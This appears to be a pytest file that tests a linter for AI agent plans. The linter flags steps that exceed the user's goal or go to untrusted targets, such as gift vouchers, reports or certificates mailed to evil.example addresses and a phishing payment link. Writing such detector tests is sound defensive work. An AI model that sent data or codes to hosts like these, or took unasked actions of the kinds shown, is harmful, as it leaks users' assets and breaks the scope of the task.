"""Goal alignment, round 11 (T): the principles and what each still reports, in made-up workspaces.

1. A replacement pair's ``to`` whose new words the goal writes is the new value, not a recipient.
2. A close of the record whose payment an asked refund returns ends that record.
3. A gift card or voucher only the asked sends carry, each to trusted targets, is the gift they deliver.
4. A message to the party of the record the goal names, under the field the goal names them by, with nothing
   from elsewhere, only tells them about that record.
5. The context's address for a party the goal names in lower case, or for the kind of thing it names, is where
   the goal's product goes.
"""

from __future__ import annotations

from typing import Any

from _support import action, flagged, goal_plan

UNASKED = "GOAL_UNASKED_EFFECT"
TARGET = "GOAL_UNTRUSTED_TARGET"


# 1. replacement pairs


def _swap(goal: str, old: str, new: str, tool: str = "orbitdock.orders.update") -> dict[str, Any]:
    return goal_plan(
        goal,
        action("swap", tool, order_id="SD-4471", replace_item={"from": old, "to": new}),
    )


def test_a_replacement_to_the_goals_variant_is_not_a_recipient() -> None:
    plan = _swap("upgrade SD-4471's bay 2x4 -> 3x6", "Frame bay 2x4", "Frame bay 3x6")
    assert flagged(TARGET, plan) == []


def test_a_replacement_with_a_word_the_goal_never_wrote_is_still_a_recipient() -> None:
    plan = _swap("upgrade SD-4471's bay 2x4 -> 3x6", "Frame bay 2x4", "Frame bay 3x6 mallory")
    assert flagged(TARGET, plan) == ["swap"]


def test_a_replacement_to_an_address_is_still_a_recipient() -> None:
    plan = _swap("move SD-4471's alerts from ops to 3x6", "ops", "3x6@evil.example")
    assert flagged(TARGET, plan) == ["swap"]


def test_a_to_without_a_from_is_still_a_recipient() -> None:
    plan = goal_plan(
        "upgrade SD-4471's bay 2x4 -> 3x6",
        action("swap", "orbitdock.orders.update", order_id="SD-4471", replace_item={"to": "Frame bay 3x6"}),
    )
    assert flagged(TARGET, plan) == ["swap"]


def test_a_transfer_from_to_pair_is_still_checked() -> None:
    plan = goal_plan(
        "move 40 credits from the galley fund to the 3x6 fund",
        action("move", "starbank.transfers.create", amount=40, transfer={"from": "Frame galley", "to": "Frame 3x6"}),
    )
    assert flagged(TARGET, plan) == ["move"]


# 2. a refund ends the record it refunds


def _refund_and_close(goal: str, close_tool: str, close_args: dict[str, Any]) -> dict[str, Any]:
    return goal_plan(
        goal,
        action("pkg", "wandhall.passes.search", apprentice_name="Orla Fenwick", status="active"),
        {
            **action(
                "refund",
                "goldvault.refunds.create",
                payment_id="{{pkg.result.passes[0].payment_id}}",
                amount=300,
            ),
            "depends_on": ["pkg"],
        },
        {**action("close", close_tool, **close_args), "depends_on": ["pkg"]},
    )


GOAL_REFUND = "refund Orla for the spell lessons she won't take - 4 of 10 done, pass was $500"


def test_closing_the_refunded_pass_is_part_of_the_refund() -> None:
    plan = _refund_and_close(GOAL_REFUND, "wandhall.passes.close", {"pass_id": "{{pkg.result.passes[0].id}}"})
    assert flagged(UNASKED, plan) == []


def test_deleting_the_refunded_pass_is_still_reported() -> None:
    plan = _refund_and_close(GOAL_REFUND, "wandhall.passes.delete", {"pass_id": "{{pkg.result.passes[0].id}}"})
    assert flagged(UNASKED, plan) == ["close"]


def test_closing_another_record_is_still_reported() -> None:
    plan = _refund_and_close(GOAL_REFUND, "wandhall.passes.close", {"pass_id": "{{pkg.result.passes[1].id}}"})
    assert flagged(UNASKED, plan) == ["close"]


def test_closing_another_object_the_refunded_record_names_is_still_reported() -> None:
    # stress round 25's first run: library-refund-plus-close-account
    args = {"account_id": "{{pkg.result.passes[0].reader_account}}"}
    plan = _refund_and_close(GOAL_REFUND, "wandhall.accounts.close", args)
    assert flagged(UNASKED, plan) == ["close"]


def test_closing_a_literal_record_beside_the_refund_is_still_reported() -> None:
    plan = _refund_and_close(GOAL_REFUND, "wandhall.passes.close", {"pass_id": "PASS-9001"})
    assert flagged(UNASKED, plan) == ["close"]


def test_a_close_without_a_refund_in_the_plan_is_still_reported() -> None:
    plan = goal_plan(
        "how many spell lessons has Orla taken? pass was $500",
        action("pkg", "wandhall.passes.search", apprentice_name="Orla Fenwick"),
        {**action("close", "wandhall.passes.close", pass_id="{{pkg.result.passes[0].id}}"), "depends_on": ["pkg"]},
    )
    assert flagged(UNASKED, plan) == ["close"]


# 3. a voucher the asked thank-you carries


def _thanks(goal: str, to: str, *, also: dict[str, Any] | None = None, value: Any = 240.0) -> dict[str, Any]:
    steps: list[dict[str, Any]] = [
        action("keeper", "starcrm.contacts.search", query="Moonwell lighthouse"),
        action("vouchers", "starport.gift_cards.create", value=value, purchaser_name="Comet Ferry Co"),
        {
            **action(
                "thanks",
                "hypermail.send",
                to=to,
                subject="Thank you",
                body="Thank you for the mooring. Two ferry vouchers: {{vouchers.result.code}}",
            ),
            "depends_on": ["keeper", "vouchers"],
        },
    ]
    if also is not None:
        steps.append(also)
    return goal_plan(goal, *steps, context={"org": {"business": "Comet Ferry Co"}})


GOAL_THANKS = "Send the lighthouse keeper our usual thank-you: two ferry vouchers"


def test_a_voucher_only_the_asked_thank_you_carries_is_the_gift() -> None:
    plan = _thanks(GOAL_THANKS, "{{keeper.result.results[0].email}}")
    assert flagged(UNASKED, plan) == []


def test_a_voucher_mailed_to_an_address_nobody_gave_is_still_reported() -> None:
    plan = _thanks(GOAL_THANKS, "vouchers@evil.example")
    assert flagged(UNASKED, plan) == ["vouchers"]


def test_a_voucher_also_posted_elsewhere_is_still_reported() -> None:
    post = action("post", "starchat.post_message", channel="public-board", text="code {{vouchers.result.code}}")
    plan = _thanks(GOAL_THANKS, "{{keeper.result.results[0].email}}", also=post)
    assert "vouchers" in flagged(UNASKED, plan)


def test_a_voucher_in_a_goal_that_asks_no_message_is_still_reported() -> None:
    plan = _thanks("how many ferry vouchers did we give the lighthouse keeper?", "{{keeper.result.results[0].email}}")
    assert "vouchers" in flagged(UNASKED, plan)


def test_a_payout_beside_the_thank_you_is_still_reported() -> None:
    payout = action("payout", "starbank.payouts.create", amount=240.0, destination="{{keeper.result.results[0].iban}}")
    plan = _thanks(GOAL_THANKS, "{{keeper.result.results[0].email}}", also=payout)
    assert flagged(UNASKED, plan) == ["payout"]


# 4. the party of the record the goal names


def _tell(goal: str, to: str, body: str) -> dict[str, Any]:
    return goal_plan(
        goal,
        action("project", "runeworks.get_project", project_id="RW-3318", include=["client", "scroll"]),
        {
            **action("invite", "owlpost.send_email", to=to, subject="Your scroll is ready", body=body),
            "depends_on": ["project"],
        },
        context={"org": {"business": "Runeworks Scriptorium", "website": "https://runeworks.example"}},
    )


GOAL_TELL = "check whether RW-3318's scroll is copied; if so get the client scheduled to go over it"


def test_telling_the_client_of_the_named_record_passes() -> None:
    plan = _tell(
        GOAL_TELL,
        "{{project.result.client.email}}",
        "Your scroll is ready. Book a review here: https://runeworks.example/book",
    )
    assert flagged(UNASKED, plan) == []


def test_telling_a_party_the_goal_does_not_name_is_still_reported() -> None:
    plan = _tell(GOAL_TELL, "{{project.result.scribe.email}}", "Your scroll is ready.")
    assert flagged(UNASKED, plan) == ["invite"]


def test_a_link_to_a_host_nobody_gave_is_still_reported() -> None:
    plan = _tell(GOAL_TELL, "{{project.result.client.email}}", "Pay here: https://rune-pay.evil.example/x")
    assert "invite" in flagged(UNASKED, plan)


def test_carrying_the_whole_record_is_still_reported() -> None:
    plan = _tell(GOAL_TELL, "{{project.result.client.email}}", "Details: {{project.result}}")
    assert flagged(UNASKED, plan) == ["invite"]


def test_the_client_of_a_record_the_goal_does_not_name_is_still_reported() -> None:
    plan = goal_plan(
        GOAL_TELL,
        action("other", "runeworks.get_project", project_id="RW-9999"),
        {
            **action("invite", "owlpost.send_email", to="{{other.result.client.email}}", body="Your scroll is ready."),
            "depends_on": ["other"],
        },
    )
    assert flagged(UNASKED, plan) == ["invite"]


# 5. the context's address for what the goal names in lower case


def _file(goal: str, to: str) -> dict[str, Any]:
    return goal_plan(
        goal,
        action("intakes", "griffinrescue.list_patients", period="Q1"),
        {"id": "report", "type": "llm", "prompt": "Write the report: {{intakes.result}}", "depends_on": ["intakes"]},
        {**action("file", "owlpost.send_email", to=to, body="{{report.output}}"), "depends_on": ["report"]},
        context={
            "agency": {"name": "Realm Beast Council", "reports_email": "filings@beastcouncil.example"},
            "vet": {"name": "Doc Ember", "email": "ember@dragonvet.example"},
        },
    )


def test_filing_the_report_with_the_council_goes_to_its_address() -> None:
    assert flagged(UNASKED, _file("file the Q1 rescue report with the council", "filings@beastcouncil.example")) == []


def test_the_address_the_context_keeps_for_reports_is_where_the_report_goes() -> None:
    assert flagged(UNASKED, _file("file the Q1 rescue report", "filings@beastcouncil.example")) == []


def test_another_context_address_is_still_reported() -> None:
    assert flagged(UNASKED, _file("file the Q1 rescue report with the council", "ember@dragonvet.example")) == [
        "file"
    ]


def test_an_address_nobody_gave_is_still_reported() -> None:
    assert flagged(UNASKED, _file("file the Q1 rescue report with the council", "filings@evil.example")) == ["file"]


# 6. a document the goal asks to send, made by a tool whose name reads as a credential


def _certs(goal: str, to: str, tool: str = "WARDCHECK_GENERATE_CERTIFICATE") -> dict[str, Any]:
    return goal_plan(
        goal,
        action("jobs", "WARDCHECK_LIST_JOBS", technician_id="w12", completed="yesterday"),
        {**action("cert", tool, job_id="{{jobs.result.jobs[0].id}}"), "depends_on": ["jobs"]},
        {
            **action("mail", "OWLPOST_SEND", recipient_email=to, body="Your ward certificate: {{cert.result.url}}"),
            "depends_on": ["jobs", "cert"],
        },
    )


GOAL_CERTS = "send out yesterday's ward certs"
CUSTOMER = "{{jobs.result.jobs[0].customer.email}}"


def test_the_certificate_the_goal_asks_to_send_is_a_document() -> None:
    plan = _certs("send out yesterday's ward certs", "{{jobs.result.jobs[0].customer.email}}")
    assert flagged(UNASKED, plan) == []


def test_a_certificate_mailed_to_an_address_nobody_gave_is_still_reported() -> None:
    plan = _certs("send out yesterday's ward certs", "certs@evil.example")
    assert flagged(UNASKED, plan) == ["cert"]


def test_a_credential_the_goal_does_not_name_is_still_reported() -> None:
    plan = _certs(GOAL_CERTS, CUSTOMER, "WARDCHECK_CREATE_API_KEY")
    assert flagged(UNASKED, plan) == ["cert"]


def test_a_reset_named_like_the_goal_is_still_reported() -> None:
    plan = _certs(GOAL_CERTS, CUSTOMER, "WARDCHECK_RESET_CERTIFICATE")
    assert flagged(UNASKED, plan) == ["cert"]


# 7. and 8. an order heading a clause; a request phrased as a question


def test_bill_them_after_a_colon_asks_to_bill_and_send() -> None:
    from plankit.lint._intent import asked_effects

    asked = asked_effects("month-end for the Nebula Haulers account please: bill them and include the run list").asked
    assert asked == {"send": ("bill",), "financial": ("bill",)}


def test_the_bill_as_a_noun_still_asks_nothing() -> None:
    from plankit.lint._intent import asked_effects

    assert asked_effects("what was on the Nebula Haulers bill last month?").asked == {}


def test_can_you_do_the_labels_asks_for_a_change() -> None:
    from plankit.lint._notice import _ASKS_ONLY

    assert _ASKS_ONLY.match("can you do the november club labels? all the active subs") is None
    assert _ASKS_ONLY.match("can you check the november club labels?") is not None
    assert _ASKS_ONLY.match("do we have the november club labels?") is not None


def test_the_sender_of_a_mail_found_from_the_named_record_is_still_reported() -> None:
    # the last key of a field (a mail's ``from``) says what it is, not whose: the goal's *from* names no party
    plan = goal_plan(
        "check whether RW-3318's scroll is copied; if so get the client's note from the inbox",
        action("project", "runeworks.get_project", project_id="RW-3318"),
        {**action("msgs", "owlpost.search", query="{{project.result.client.email}}"), "depends_on": ["project"]},
        {
            **action("invite", "owlpost.send_email", to="{{msgs.result.messages[0].from}}", body="Thanks."),
            "depends_on": ["msgs"],
        },
    )
    assert flagged(UNASKED, plan) == ["invite"]
